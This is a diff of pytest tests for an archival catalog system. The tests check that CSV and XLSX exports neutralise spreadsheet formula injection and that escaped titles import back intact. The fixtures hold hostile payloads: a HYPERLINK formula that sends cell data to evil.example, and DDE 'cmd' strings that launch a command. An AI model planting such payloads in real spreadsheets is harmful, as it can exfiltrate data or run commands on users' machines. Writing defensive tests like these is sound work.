@@ -155,7 +155,7 @@ def test_the_layout_and_the_tree_order(tmp_path, fonds, tree):
         "2016年文书档案",
         "贵州省扶贫开发办公室关于易地扶贫搬迁的文件材料",
         "关于做好易地扶贫搬迁工作的通知",
-        "=关于产业扶贫项目验收的报告",
+        "'=关于产业扶贫项目验收的报告",  # guarded against formula injection (see below)
         "红军长征过黔东南的回忆材料",
         "待整理材料",
     ]
@@ -188,15 +188,93 @@ def test_the_layout_and_the_tree_order(tmp_path, fonds, tree):
     assert (folder["层级"], folder["上级档号"], folder["上级序号"]) == ("案卷", None, 1)  # its series has no 档号
     dates = [row[column["日期"]] for row in rows[1:]]
     assert dates == [None, None, "20160312", "201604", "1935", None]
-    assert AuditEntry.objects.get(action="catalog.export").data == {"file": "目录.xlsx", "format": "xlsx", "rows": 6}
+    entry = AuditEntry.objects.get(action="catalog.export")
+    assert entry.data == {"file": "目录.xlsx", "format": "xlsx", "rows": 6, "scope": "fonds"}
 
 
 def test_a_title_like_a_formula_stays_text(tmp_path, fonds, tree):
     path = tmp_path / "目录.xlsx"
     export_catalog(CONSOLE, fonds, path)
     sheet = load_workbook(path).active
-    cell = next(c for c in sheet["E"] if c.value and str(c.value).startswith("="))
-    assert cell.data_type == "s" and cell.value == "=关于产业扶贫项目验收的报告"
+    cell = next(c for c in sheet["E"] if c.value and "关于产业扶贫" in str(c.value))
+    assert cell.data_type == "s" and cell.value == "'=关于产业扶贫项目验收的报告"
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+]
+
+
+@pytest.fixture
+def formulas(fonds, categories):
+    """Units whose every text field an attacker filled with spreadsheet formulas (a transferring agency's data)."""
+    for n, text in enumerate(FORMULAS, start=1):
+        do_create_unit(
+            CONSOLE,
+            fonds,
+            {
+                "title": text,
+                "responsible": text,
+                "document_number": text[:100],
+                "remarks": text,
+                "notes": text,
+                "extent": text,
+                "physical_location": text,
+                "reference_code": f"Z109-WS·2016-Y-BGS-{n:04d}",
+                "category": categories["WS"],
+            },
+            subjects=[f"=主题{n}", "扶贫"],  # 主题词 are split at spaces and "|": simple ones
+        )
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_no_cell_of_an_export_is_a_formula(tmp_path, fonds, formulas, suffix):
+    from dangan.utilities.spreadsheets import is_formula_like
+
+    path = tmp_path / f"目录{suffix}"
+    assert export_catalog(CONSOLE, fonds, path) == len(FORMULAS)
+    if suffix == ".csv":
+        rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
+    else:
+        rows = [[c for c in row] for row in load_workbook(path).active.iter_rows(values_only=True)]
+        for row in load_workbook(path).active.iter_rows():
+            assert all(cell.data_type != "f" for cell in row)
+    cells = [cell for row in rows[1:] for cell in row if isinstance(cell, str) and cell]
+    assert not [cell for cell in cells if is_formula_like(cell)]
+    assert sum(cell.startswith("'") for cell in cells) >= len(FORMULAS) * 8  # every text column of every row
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_an_exported_formula_imports_back_as_the_original_text(tmp_path, fonds, formulas, suffix):
+    before = snapshot(fonds)
+    path = tmp_path / f"目录{suffix}"
+    count = export_catalog(CONSOLE, fonds, path)
+    same = import_catalog(CONSOLE, path, fonds, dry_run=True)
+    assert (same.status, same.unchanged) == ("checked", count), [e.line() for e in same.errors]
+    fresh = do_create_fonds(CONSOLE, "Z110", "另一全宗")
+    copy = tmp_path / f"副本{suffix}"
+    text = path.read_bytes() if suffix == ".xlsx" else None
+    if text is None:
+        copy.write_text(path.read_text(encoding="utf-8-sig").replace("Z109", "Z110"), encoding="utf-8-sig")
+    else:
+        from openpyxl import load_workbook as load
+
+        book = load(path)
+        for row in book.active.iter_rows(min_row=2):
+            if isinstance(row[1].value, str):
+                row[1].value = row[1].value.replace("Z109", "Z110")
+        book.save(copy)
+    result = import_catalog(CONSOLE, copy, fresh)
+    assert result.status == "done", [e.line() for e in result.errors]
+    titles = sorted(ArchivalUnit.objects.filter(fonds=fresh).values_list("title", flat=True))
+    assert titles == sorted(t.strip() for t in FORMULAS)
+    unit = ArchivalUnit.objects.get(fonds=fresh, reference_code="Z110-WS·2016-Y-BGS-0001")
+    assert unit.responsible == unit.remarks == unit.notes == FORMULAS[0]
+    assert snapshot(fonds) == before
 
 
 @pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
